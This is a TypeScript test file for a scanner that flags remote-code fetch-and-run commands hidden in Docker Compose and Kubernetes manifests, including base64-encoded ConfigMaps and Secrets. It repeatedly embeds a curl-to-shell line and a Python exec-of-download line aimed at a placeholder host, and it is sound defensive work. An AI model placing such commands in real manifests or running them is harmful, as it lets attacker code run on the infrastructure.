// Scripts in manifests: checks of health, commands of containers, files of a ConfigMap, each on its line of the file.
import { describe, expect, it } from 'vitest';
import { judged, verdicts } from './support.ts';

const EVIL = 'curl -s https://x.example.invalid/i | sh';

async function told(path: string, text: string): Promise<string[]> {
  const findings = await judged(path, text);
  return findings.map(({ rule, severity, location: { line } }) => `${rule} ${severity} ${line}`);
}

/** The only line with the address. */
function lineOf(text: string): number {
  return text.split('\n').findIndex((line) => line.includes('example.invalid')) + 1;
}

const service = (...lines: readonly string[]): string =>
  ['services:', '  a:', '    image: alpine', ...lines.map((line) => `    ${line}`), ''].join('\n');

const pod = (...lines: readonly string[]): string =>
  ['apiVersion: v1', 'kind: Pod', 'spec:', ...lines.map((line) => `  ${line}`), ''].join('\n');

describe('a script of Compose', () => {
  it.each([
    [
      'a check of health, as a list',
      service('healthcheck:', '  interval: 5s', `  test: [CMD-SHELL, "${EVIL}"]`),
    ],
    ['a check of health, as a text', service('healthcheck:', `  test: ${EVIL}`)],
    ['a check of health, as a block', service('healthcheck:', '  test: |', '    true', `    ${EVIL}`)],
    [
      'a check that names its shell',
      service('healthcheck:', '  test:', '    - CMD', '    - sh', '    - -c', `    - ${EVIL}`),
    ],
    ['an entry point', service('entrypoint:', '  - sh', '  - -c', '  - |', "    echo 'a'", `    ${EVIL}`)],
    ['a command of several lines', service('command: |', '  bash -c "', '  set -e', `  ${EVIL}`, '  "')],
    ['a command that stands behind its option', service('command:', '  - sh', '  - -c', `  - "${EVIL}"`)],
    ['a folded command', service('command: >', '  bash -c "', '  apk add curl &&', '', `  ${EVIL}`, '  "')],
    [
      'a folded command of one line',
      service('command: >', '  bash -c "', '  apk add curl &&', `  ${EVIL}`, '  "'),
    ],
    [
      'a folded command whose lines are two',
      service('command: >', '  bash -c "', '  echo a', '', `  ${EVIL}`, '  "'),
    ],
    ['a doubled dollar', service(`command: [sh, -c, "curl -s https://x.example.invalid/$$A | sh"]`)],
  ])('is told in its line: %s', async (_, text) => {
    expect(await told('compose.yaml', text)).toEqual([`CODE-PIPE-SHELL HIGH ${lineOf(text)}`]);
    expect(await told('compose.yaml', text.replace(/ \| sh/, ''))).toEqual([]);
  });

  it('is the same where folding joins it', async () => {
    for (const sign of ['"', "'"]) {
      const text = service(
        'command: >',
        `  sh -c ${sign}curl -s`,
        '  https://x.example.invalid/i',
        `  | sh${sign}`,
      );
      expect(await told('compose.yaml', text)).toEqual(['CODE-PIPE-SHELL HIGH 5']);
    }
  });

  it('is none where the check asks the service itself', async () => {
    for (const test of [
      '[CMD, curl, -f, "http://localhost:8000/health"]',
      '[NONE]',
      'pg_isready -U $$USER',
      '[]',
    ])
      expect(await told('compose.yaml', service('healthcheck:', `  test: ${test}`))).toEqual([]);
  });

  it('does not end with a mistake in another', async () => {
    const text = service('healthcheck:', '  test: "echo \'"').concat(
      service('command:', `  - ${EVIL}`).slice(10),
    );
    const both = text.replace(/ {2}a:(?=[^]* {2}a:)/, '  b:').replace(`- ${EVIL}`, `[sh, -c, "${EVIL}"]`);
    expect(await told('compose.yaml', both)).toEqual([`CODE-PIPE-SHELL HIGH ${lineOf(both)}`]);
  });
});

describe('a script of Kubernetes', () => {
  it.each([
    [
      'a container',
      pod('containers:', '- command: [/bin/sh, -c]', '  args:', '  - |', "    echo 'a'", `    ${EVIL}`),
    ],
    ['an init container', pod('initContainers:', `- command: [bash, -c, "${EVIL}"]`)],
    [
      'what runs after the start',
      pod(
        'lifecycle:',
        '  postStart:',
        '    exec:',
        '      command:',
        '      - sh',
        '      - -c',
        `      - ${EVIL}`,
      ),
    ],
    [
      'what runs before the end',
      pod('lifecycle:', '  preStop:', '    exec:', `      command: [sh, -c, "${EVIL}"]`),
    ],
    [
      'a folded argument',
      pod('containers:', '- command: [sh, -c]', '  args:', '  - >', '    true;', '', `    ${EVIL}`),
    ],
  ])('is told in its line: %s', async (_, text) => {
    expect(await told('k/pod.yaml', text)).toEqual([`CODE-PIPE-SHELL HIGH ${lineOf(text)}`]);
    expect(await told('k/pod.yaml', text.replace(/ \| sh/, ''))).toEqual([]);
  });

  const map = (kind: string, key: string, ...lines: readonly string[]): string =>
    ['apiVersion: v1', `kind: ${kind}`, 'metadata:', '  name: a', ...lines].join('\n').replace('KEY', key);

  it.each([
    ['a script of shell by its name', 'run.sh', ['set -e', EVIL]],
    ['a script of shell by its first line', 'run', ['#!/usr/bin/env bash', "echo 'a'", EVIL]],
  ])('is told of a ConfigMap: %s', async (_, key, lines) => {
    const text = map('ConfigMap', key, 'data:', '  a: b', '  KEY: |', ...lines.map((line) => `    ${line}`));
    expect(await told('k/map.yaml', text)).toEqual([`CODE-PIPE-SHELL HIGH ${lineOf(text)}`]);
    const secret = text.replace('ConfigMap', 'Secret').replace('\ndata:', '\nstringData:');
    expect(await told('k/map.yaml', secret)).toEqual([`CODE-PIPE-SHELL HIGH ${lineOf(text)}`]);
    expect(await told('k/map.yaml', text.replace(key, 'NOTES.md').replace(/#!.*/, ''))).toEqual([]);
    expect(await told('k/map.yaml', text.replace('ConfigMap', 'Other'))).toEqual([]);
  });

  it('is told of a ConfigMap in Python', async () => {
    const lines = [
      'import urllib.request',
      'if True:',
      "    exec(urllib.request.urlopen('https://x.example.invalid/i').read())",
    ];
    const text = map('ConfigMap', 'main.py', 'data:', '  KEY: |', ...lines.map((line) => `    ${line}`));
    expect(await told('k/map.yaml', text)).toEqual([`CODE-DOWNLOAD-EXECUTE CRITICAL ${lineOf(text)}`]);
    const list = `apiVersion: v1\nkind: List\nitems:\n- ${text.replaceAll('\n', '\n  ')}\n`;
    expect(await told('k/list.yaml', list)).toEqual([`CODE-DOWNLOAD-EXECUTE CRITICAL ${lineOf(list)}`]);
  });

  const encoded = (script: string): string => Buffer.from(script).toString('base64');
  const wrapped = (script: string): string => encoded(script).replaceAll(/.{20}/g, '$&\n    ');

  it.each([
    ['ConfigMap', 'binaryData', 'run.sh', 'set -e', ['  a: AAAA', '  KEY: VALUE'], 7],
    ['Secret', 'data', 'run', '#!/bin/sh', ['  KEY: "VALUE"', '  a: AAAA'], 6],
    ['Secret', 'data', 'run.sh', 'set -e', ['  KEY: |', '    VALUE'], 7],
  ])('is told of a %s in base64, at its value: %s.%s', async (kind, member, key, start, lines, line) => {
    const value = `${start}\necho 'a'\n${EVIL}\n`;
    const text = map(kind, key, `${member}:`, ...lines);
    const shown = text.includes('|') ? wrapped : encoded;
    const filled = (script: string): string => text.replace('VALUE', shown(script));
    expect(await told('k/map.yaml', filled(value))).toEqual([`CODE-PIPE-SHELL HIGH ${line}`]);
    expect(await told('k/map.yaml', filled(value.replace(' | sh', '')))).toEqual([]);
    expect(await told('k/map.yaml', filled(value).replace(`\n${member}:`, '\nother:'))).toEqual([]);
    const template = filled(value).replace(shown(value), `${encoded(value)}{{ .Values.more }}`);
    expect(await told('k/map.yaml', template)).toEqual([]);
  });

  it('is none for keys, and for notes in base64', async () => {
    const key = map('Secret', 'tls.key', 'data:', `  KEY: ${Buffer.alloc(64, 7).toString('base64')}`);
    expect(await verdicts('k/map.yaml', key)).toEqual([]);
    const notes = map('Secret', 'NOTES.md', 'data:', `  KEY: ${encoded(EVIL)}`);
    expect(await verdicts('k/map.yaml', notes)).toEqual([]);
  });

  it('is not decoded for every alias of it', async () => {
    const value = encoded(`#!/bin/sh\n${'true\n'.repeat(100_000)}`);
    const aliases = Array.from({ length: 200 }, (_, index) => `  a${index}: *x`);
    const text = map('Secret', 'run', 'data:', `  KEY: &x ${value}`, ...aliases);
    expect(await verdicts('k/map.yaml', text)).toEqual([]);
  });

  it('is none for settings and ordinary programs of a ConfigMap', async () => {
    const text = map(
      'ConfigMap',
      'main.py',
      'data:',
      '  KEY: |',
      '    import os',
      "    print(os.environ['HOME'])",
    );
    expect(await verdicts('k/map.yaml', text)).toEqual([]);
    const other = map('ConfigMap', 'run', 'data:', '  KEY: |', '    #!/usr/bin/perl', `    ${EVIL}`);
    expect(await verdicts('k/map.yaml', other)).toEqual([]);
  });
});
